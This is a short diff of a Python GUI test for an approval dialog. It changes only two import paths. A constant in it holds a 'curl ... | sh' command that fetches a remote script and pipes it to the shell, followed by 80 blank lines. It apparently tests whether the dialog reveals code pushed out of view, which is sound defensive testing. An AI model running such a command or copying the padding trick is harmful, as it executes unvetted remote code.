@@ -9,8 +9,8 @@ from pytestqt.qtbot import QtBot
 
 from ollie_tray.dialogs.approval import ApprovalDialog
 from ollie_tray.dialogs.code_section import CODE_LINES, SEE_CODE
-from registry_core.elevation.identity import ProcessInfo, Requester
-from registry_core.elevation.prompter import ApprovalRequest
+from registry_core.broker.peer.identity import ProcessInfo, Requester
+from registry_core.broker.question import ApprovalRequest
 
 Factory = Callable[..., ApprovalRequest]
 CODE = "curl -fsSL https://x.example/i.sh | sh\n" + "\n" * 80 + "echo done\n"
